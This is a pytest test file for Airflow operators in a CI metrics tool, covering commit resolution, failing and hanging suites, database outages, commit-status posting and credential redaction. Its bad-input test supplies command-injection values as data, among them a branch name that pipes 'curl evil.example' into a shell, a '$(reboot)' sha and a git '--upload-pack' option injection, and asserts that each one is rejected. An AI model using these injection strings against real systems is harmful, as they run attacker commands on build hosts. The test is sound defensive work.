"""Per-commit operators via execute(context), against a real metrics DB (SQLite and PostgreSQL) and real
git repositories: bad input, timeouts, empty suites and a database outage are recorded, then raised."""

from __future__ import annotations

import json
import os

import pytest
import yaml
from airflow.sdk.exceptions import AirflowException, AirflowFailException
from sqlalchemy import select
from sqlalchemy.orm import Session, selectinload
from support.context import TaskInstanceStub, make_context
from support.git_repo import commit_folder

from assay.store import MetricsStore
from assay.store.models import SuiteRun
from assay_airflow.operators.gates import CommitGatesOperator
from assay_airflow.operators.per_commit import PytestSuiteOperator, ResolveCommitOperator, workspace


@pytest.fixture
def sample_target(tmp_path, fixtures_dir, monkeypatch, metrics_url):
    """A target whose repo is the sample suite (with a failing and a hanging test), configured by file."""
    repo = tmp_path / "sample-repo"
    sha = commit_folder(repo, fixtures_dir / "sample_suite")
    cfg = {
        "targets": {
            "sample": {
                "repo": str(repo),
                "python": "worker",
                "source": "calc",
                "suites": {
                    "unit": {"marker": "unit and not slow", "timeout_s": 60},
                    "hang": {"marker": "slow", "timeout_s": 2},
                    "empty": {"paths": ["calc"]},
                },
                "gates": {"coverage_min": 50, "critical_paths": ["calc/*.py"]},
            }
        }
    }
    path = tmp_path / "assay.yaml"
    path.write_text(yaml.safe_dump(cfg))
    monkeypatch.setenv("ASSAY_CONFIG", str(path))
    monkeypatch.setenv("ASSAY_METRICS_DB_URL", metrics_url)
    return {"sha": sha, "url": metrics_url}


def rows(url, **where):
    store = MetricsStore(url)
    with Session(store.engine) as s:
        q = select(SuiteRun).options(selectinload(SuiteRun.test_cases))
        for k, v in where.items():
            q = q.where(getattr(SuiteRun, k) == v)
        out = s.scalars(q).all()
    store.dispose()
    return out


def resolve(params, ti=None):
    ctx = make_context("resolve_commit", params, ti=ti)
    out = ResolveCommitOperator(task_id="resolve_commit").execute(ctx)
    ctx["ti"].xcom_push("return_value", out)  # as the task runner does with a return value
    return ctx, out


def test_resolve_records_and_returns_the_exact_commit(sample_target):
    ctx, out = resolve({"target": "sample", "sha": sample_target["sha"][:10], "branch": "main"})
    assert ctx["ti"].xcoms[("resolve_commit", "commit")] == {
        "target": "sample",
        "sha": sample_target["sha"],
        "branch": "main",
        "requested_sha": sample_target["sha"][:10],
    }
    assert out == ["empty", "hang", "unit"]  # the suites the suite task is mapped over
    (row,) = rows(sample_target["url"], name="checkout")
    assert row.status == "PASS" and row.commit_sha == sample_target["sha"]


@pytest.mark.parametrize(
    "params, expected",
    [
        ({"target": "sample", "sha": "1234567"}, "commit 1234567 does not exist in target 'sample'"),
        ({"target": "unknown-repo", "branch": "main"}, "target 'unknown-repo' is not configured"),
        ({"target": "sample", "branch": "main; curl evil.example | sh"}, "branch 'main; curl evil.example | sh'"),
        ({"target": "sample", "sha": "$(reboot)"}, "sha '$(reboot)' must be 7 to 40 hexadecimal"),
        ({"target": "sample", "branch": "--upload-pack=touch /tmp/pwned"}, "must not start with '-'"),
    ],
)
def test_bad_input_fails_at_once_and_is_recorded(sample_target, params, expected, tmp_path):
    with pytest.raises(AirflowFailException) as err:
        resolve(params)
    assert expected in str(err.value)
    (row,) = rows(sample_target["url"], name="checkout")
    assert row.status == "ERROR" and expected in row.message


def test_repo_that_does_not_exist_is_a_final_error(sample_target, tmp_path):
    cfg_path = tmp_path / "assay.yaml"
    cfg = yaml.safe_load(cfg_path.read_text())
    cfg["targets"]["sample"]["repo"] = str(tmp_path / "gone")
    cfg_path.write_text(yaml.safe_dump(cfg))
    with pytest.raises(AirflowFailException) as err:  # issue 7: a retry cannot make it exist
        resolve({"target": "sample", "branch": "main"})
    assert f"target repository {str(tmp_path / 'gone')!r}" in str(err.value)
    (row,) = rows(sample_target["url"], name="checkout")
    assert row.status == "ERROR" and "does not exist" in row.message


def test_a_commit_no_watched_branch_contains_is_refused_before_checkout(sample_target, tmp_path):
    """Issue 14: only commits of the watched branches (or, opted in, of pull-request refs) run on a worker."""
    from support.git_repo import commit_all, git

    repo = tmp_path / "sample-repo"
    git(["checkout", "-q", "-b", "unmerged"], repo)
    (repo / "evil.py").write_text(f"print('not reviewed: {tmp_path.name}')\n")  # a sha of this test's own
    unmerged = commit_all(repo, "unmerged work")
    git(["checkout", "-q", "main"], repo)
    with pytest.raises(AirflowFailException) as err:  # final: a retry cannot make it reachable
        resolve({"target": "sample", "sha": unmerged})
    expected = f"commit {unmerged} is not reachable from watched branches [main] of target 'sample'"
    assert expected in str(err.value)
    assert "set testable_refs.pull_requests: true to test pull-request refs" in str(err.value)
    (row,) = rows(sample_target["url"], name="checkout")
    assert row.status == "ERROR" and expected in row.message and row.commit_sha == unmerged
    assert not (workspace().root / "worktrees" / "sample" / unmerged).exists()  # never checked out
    with pytest.raises(AirflowFailException, match="branch 'unmerged' is not a watched branch"):
        resolve({"target": "sample", "branch": "unmerged"})

    git(["update-ref", "refs/pull/7/head", unmerged], repo)
    cfg_path = tmp_path / "assay.yaml"
    cfg = yaml.safe_load(cfg_path.read_text())
    cfg["targets"]["sample"]["testable_refs"] = {"pull_requests": True}
    cfg_path.write_text(yaml.safe_dump(cfg))
    ctx, _ = resolve({"target": "sample", "branch": "pull/7/head"})
    assert ctx["ti"].xcoms[("resolve_commit", "commit")]["sha"] == unmerged


def run_suite(suite, ti):
    ctx = make_context(f"{suite}_tests", ti=ti)
    return PytestSuiteOperator(task_id=f"{suite}_tests", suite=suite).execute(ctx)


def test_failing_suite_records_then_fails_without_retry(sample_target):
    ctx, _ = resolve({"target": "sample", "branch": "main"})
    with pytest.raises(AirflowFailException, match="1 failed"):
        run_suite("unit", ctx["ti"])
    (row,) = rows(sample_target["url"], name="unit")
    assert row.status == "FAIL"
    assert sorted(t.outcome for t in row.test_cases) == ["error", "failed", "passed", "passed", "passed", "skipped"]


def test_a_failed_suite_log_ends_with_the_failed_tests_and_xcom_keeps_the_result(sample_target, capfd):
    """The issue's first run: the log said only "FAIL: 3 passed, 1 failed...". Now its last record names each
    failed test with its first message line and file:line, and the run's page; XCom holds the result."""
    import re

    ctx, _ = resolve({"target": "sample", "branch": "main"})
    ti = ctx["ti"]
    capfd.readouterr()
    with pytest.raises(AirflowFailException):
        run_suite("unit", ti)
    out = capfd.readouterr().out
    records = [r for r in re.split(r"\n(?=\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d)", out) if r.strip()]
    last = records[-1]
    assert "Assay summary: FAIL: tests 6 (3 passed, 1 failed, 1 error, 1 skipped)" in last
    assert "tests/test_calc.py::test_wrong_on_purpose (tests/test_calc.py:" in last
    assert "AssertionError: two and two make four" in last
    assert "[error] tests/test_calc.py::test_uses_broken_fixture (tests/test_calc.py:" in last
    assert f"details: http://127.0.0.1:8080/assay/runs/{ti.dag_id}/{ti.run_id}" in last
    pushed = ti.xcoms[("unit_tests", "return_value")]
    assert pushed["status"] == "FAIL" and pushed["records"]["test_cases"] == 6
    summary = ti.xcoms[("unit_tests", "assay_summary")]
    assert [t["node_id"].rsplit("::", 1)[1] for t in summary["failed_tests"]] == [
        "test_wrong_on_purpose",
        "test_uses_broken_fixture",
    ]
    assert all(re.fullmatch(r"tests/test_calc\.py:\d+", t["location"]) for t in summary["failed_tests"])


@pytest.mark.slow
def test_hanging_suite_is_error_and_empty_suite_is_error(sample_target, monkeypatch, tmp_path):
    monkeypatch.setenv("SAMPLE_HANG", "1")
    monkeypatch.setenv("SAMPLE_HANG_PIDFILE", str(tmp_path / "pid"))
    ctx, _ = resolve({"target": "sample", "branch": "main"})
    for suite, fragment in (("hang", "exceeded its timeout of 2 s"), ("empty", "collected no tests")):
        with pytest.raises(AirflowFailException, match=fragment):  # a retry cannot change either (issue 7)
            run_suite(suite, ctx["ti"])
        (row,) = rows(sample_target["url"], name=suite)
        assert row.status == "ERROR"


@pytest.mark.slow
def test_gates_read_what_was_recorded_and_name_the_failures(sample_target, monkeypatch, tmp_path):
    monkeypatch.setenv("SAMPLE_HANG", "1")
    monkeypatch.setenv("SAMPLE_HANG_PIDFILE", str(tmp_path / "pid"))
    ctx, _ = resolve({"target": "sample", "branch": "main"})
    ti = ctx["ti"]
    for suite in ("unit", "hang", "empty"):
        with pytest.raises(AirflowException):
            run_suite(suite, ti)
    gate_ctx = make_context("evaluate_gates", ti=ti)
    with pytest.raises(AirflowFailException) as err:
        CommitGatesOperator(task_id="evaluate_gates").execute(gate_ctx)
    assert "per-commit verdict ERROR" in str(err.value)
    (gate,) = rows(sample_target["url"], name="per_commit_gates")
    checks = {c["name"]: c["status"] for c in gate.summary["checks"]}
    assert checks["all_tests_pass"] == "FAIL" and checks["suite_completed:hang"] == "ERROR"
    assert checks["coverage_min"] == "PASS" and checks["critical_path:calc/*.py"] == "FAIL"


@pytest.mark.slow
def test_metrics_db_down_while_recording_parks_then_flushes_once(sample_target, tmp_path, monkeypatch):
    if not sample_target["url"].startswith("sqlite"):
        pytest.skip("the PostgreSQL outage is covered through a TCP proxy in tests/unit/store/test_outbox.py")
    ctx, _ = resolve({"target": "sample", "branch": "main"})
    down_path = tmp_path / "down.db"
    down_path.mkdir()  # a directory where the database file should be: every connection fails
    monkeypatch.setenv("ASSAY_METRICS_DB_URL", f"sqlite:///{down_path}")
    monkeypatch.setenv("ASSAY_METRICS_DB_ATTEMPTS", "2")
    monkeypatch.setenv("ASSAY_METRICS_DB_BACKOFF_S", "0.01")
    with pytest.raises(AirflowException, match="parked in the outbox"):
        run_suite("unit", ctx["ti"])
    down_path.rmdir()  # the database comes back
    ti2 = TaskInstanceStub(run_id=ctx["ti"].run_id, try_number=2, xcoms=ctx["ti"].xcoms)
    with pytest.raises(AirflowFailException):
        run_suite("unit", ti2)  # the retry flushes try 1, then records try 2
    recorded = sorted((r.try_number, r.status) for r in rows(f"sqlite:///{down_path}", name="unit"))
    assert recorded == [(1, "FAIL"), (2, "FAIL")]
    with pytest.raises(AirflowException):  # the gate flushes nothing twice
        CommitGatesOperator(task_id="evaluate_gates").execute(make_context("evaluate_gates", ti=ti2))
    assert len(rows(f"sqlite:///{down_path}", name="unit")) == 2


def test_operator_init_only_assigns():
    op = PytestSuiteOperator(task_id="t", suite="unit")
    assert (op.suite, op.commit_task_id, op.metrics_conn_id) == ("unit", "resolve_commit", "assay_metrics")
    assert "assay_config" not in op.__dict__ and "metrics_hook" not in op.__dict__


def test_metrics_connection_resolution(monkeypatch):
    from assay_airflow.hooks.metrics_db import MetricsDbHook

    monkeypatch.delenv("ASSAY_METRICS_DB_URL", raising=False)
    monkeypatch.setenv(
        "AIRFLOW_CONN_ASSAY_METRICS",
        json.dumps(
            {"conn_type": "postgres", "host": "db", "port": 5432, "login": "u", "password": "p@ss", "schema": "metrics"}
        ),
    )
    assert MetricsDbHook().get_url() == "postgresql+psycopg2://u:p%40ss@db:5432/metrics"
    monkeypatch.delenv("AIRFLOW_CONN_ASSAY_METRICS")
    assert MetricsDbHook().get_url().endswith("/airflow/assay_metrics.db")
    monkeypatch.setenv("ASSAY_METRICS_DB_URL", "sqlite:////x.db")
    assert MetricsDbHook().get_url() == "sqlite:////x.db"


@pytest.mark.slow
def test_gates_post_the_commit_status_and_a_broken_git_host_never_changes_the_verdict(
    sample_target, tmp_path, monkeypatch
):
    from support.http_sink import HttpSink

    cfg_path = tmp_path / "assay.yaml"
    cfg = yaml.safe_load(cfg_path.read_text())
    cfg["targets"]["sample"]["suites"] = {"unit": {"marker": "unit and not slow", "extra_args": ["-k", "add"]}}
    cfg["targets"]["sample"]["gates"] = {"coverage_min": 10}
    cfg["targets"]["sample"]["commit_status"] = {
        "provider": "github",
        "conn_id": "assay_github",
        "repository": "acme/s",
    }
    cfg_path.write_text(yaml.safe_dump(cfg))
    for status in (201, 500):
        sink = HttpSink(status=status, reply=b"{}")
        monkeypatch.setenv(
            "AIRFLOW_CONN_ASSAY_GITHUB", json.dumps({"conn_type": "http", "host": sink.url, "password": "tok"})
        )
        ti = TaskInstanceStub(run_id=f"manual__status_{status}")
        ctx, _ = resolve({"target": "sample", "branch": "main"}, ti=ti)
        run_suite("unit", ti)
        out = CommitGatesOperator(task_id="evaluate_gates").execute(make_context("evaluate_gates", ti=ti))
        sink.close()
        assert out["verdict"] == "PASS"  # the 500 from the git host did not change it
        (req,) = sink.requests
        assert req.path == f"/repos/acme/s/statuses/{sample_target['sha']}"
        assert req.json()["state"] == "success" and req.headers["Authorization"] == "Bearer tok"
        assert req.json()["target_url"].endswith(f"/dags/assay_per_commit/runs/manual__status_{status}")


def test_a_broken_slack_or_smtp_is_logged_and_never_raises(sample_target, monkeypatch, caplog, capfd):
    from support.http_sink import HttpSink

    from assay_airflow.notifiers.run_alert import AssayAlertNotifier

    sink = HttpSink(status=500, reply=b"no")
    monkeypatch.setenv(
        "AIRFLOW_CONN_ASSAY_SLACK", json.dumps({"conn_type": "slackwebhook", "password": sink.url + "/x"})
    )
    monkeypatch.setenv(
        "AIRFLOW_CONN_ASSAY_SMTP",
        json.dumps(
            {"conn_type": "smtp", "host": "127.0.0.1", "port": 9, "extra": {"from_email": "a@b", "disable_ssl": True}}
        ),
    )
    ti = TaskInstanceStub(run_id="manual__broken_channels", task_id="evaluate_gates")
    AssayAlertNotifier(email_to=["x@example.com"]).notify({"ti": ti, "exception": RuntimeError("gate failed")})
    sink.close()
    assert len(sink.requests) >= 1  # Slack was really tried
    text = caplog.text + capfd.readouterr().out
    assert "Slack alert through 'assay_slack' failed" in text and "e-mail alert through 'assay_smtp' failed" in text


@pytest.mark.slow
def test_airflow_own_timeout_still_records_the_suite_before_it_propagates(sample_target, monkeypatch, tmp_path):
    """Airflow's execution_timeout (SIGALRM → AirflowTaskTimeout inside execute, as the task runner does it)."""
    from datetime import timedelta

    from airflow.sdk.exceptions import AirflowTaskTimeout
    from airflow.sdk.execution_time.timeout import timeout

    cfg_path = tmp_path / "assay.yaml"
    cfg = yaml.safe_load(cfg_path.read_text())
    cfg["targets"]["sample"]["suites"]["hang"]["timeout_s"] = 600  # the suite's own timeout is not what fires
    # trusted: the hanging test writes its host pid to a host file (a sandboxed one could not; test_sandbox.py
    # checks that a timeout kills everything inside the sandbox)
    cfg["targets"]["sample"]["sandbox"] = {"enabled": False}
    cfg_path.write_text(yaml.safe_dump(cfg))
    pidfile = tmp_path / "pid"
    monkeypatch.setenv("SAMPLE_HANG", "1")
    monkeypatch.setenv("SAMPLE_HANG_PIDFILE", str(pidfile))
    ctx, _ = resolve({"target": "sample", "branch": "main"})
    op = PytestSuiteOperator(task_id="run_suite", suite="hang", execution_timeout=timedelta(seconds=20))
    with pytest.raises(AirflowTaskTimeout), timeout(20):
        op.execute(make_context("run_suite", ti=ctx["ti"]))
    (row,) = rows(sample_target["url"], name="hang")
    assert row.status == "ERROR"
    assert "was stopped by Airflow's execution_timeout (0:00:20)" in row.message
    assert "while running tests/test_calc.py::test_hangs" in row.message
    assert [(t.node_id, t.outcome) for t in row.test_cases] == [("tests/test_calc.py::test_hangs", "error")]
    with pytest.raises(ProcessLookupError):  # the suite's process group went with it
        os.kill(int(pidfile.read_text()), 0)


def test_every_configured_suite_is_resolved_for_the_mapped_suite_task(sample_target, tmp_path):
    cfg_path = tmp_path / "assay.yaml"
    cfg = yaml.safe_load(cfg_path.read_text())
    cfg["targets"]["sample"]["suites"]["smoke-checks"] = {"marker": "unit and not slow", "extra_args": ["-k", "add"]}
    cfg_path.write_text(yaml.safe_dump(cfg))
    ctx, suites = resolve({"target": "sample", "branch": "main"})
    assert suites == ["empty", "hang", "smoke-checks", "unit"]
    out = PytestSuiteOperator(task_id="run_suite", suite="smoke-checks").execute(
        make_context("run_suite", ti=ctx["ti"])
    )
    assert out["status"] == "PASS" and out["summary"]["counts"]["passed"] == 1


def test_a_host_that_does_not_answer_is_recorded_and_retried(sample_target, tmp_path):
    import socket

    with socket.socket() as s:  # a port nobody listens on: the fetch fails for now, a retry may succeed
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    cfg_path = tmp_path / "assay.yaml"
    cfg = yaml.safe_load(cfg_path.read_text())
    cfg["targets"]["sample"]["repo"] = f"http://ci:TOKEN123@127.0.0.1:{port}/sample.git"
    cfg_path.write_text(yaml.safe_dump(cfg))
    with pytest.raises(AirflowException) as err:
        resolve({"target": "sample", "branch": "main"})
    assert not isinstance(err.value, AirflowFailException)
    (row,) = rows(sample_target["url"], name="checkout")
    assert row.status == "ERROR" and f"http://***@127.0.0.1:{port}/sample.git" in row.message
    assert "TOKEN123" not in row.message and "TOKEN123" not in str(err.value)
